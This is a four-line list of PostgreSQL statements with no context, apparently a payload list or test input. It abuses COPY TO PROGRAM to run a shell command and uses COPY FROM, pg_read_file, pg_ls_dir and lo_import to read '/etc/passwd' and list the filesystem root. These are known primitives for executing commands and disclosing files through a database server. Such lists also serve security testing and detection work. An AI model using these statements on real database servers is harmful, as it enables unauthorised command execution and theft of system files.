COPY stands TO PROGRAM 'id > /tmp/x';
COPY stands FROM '/etc/passwd';
SELECT pg_read_file('/etc/passwd'), pg_ls_dir('/');
SELECT lo_import('/etc/passwd');
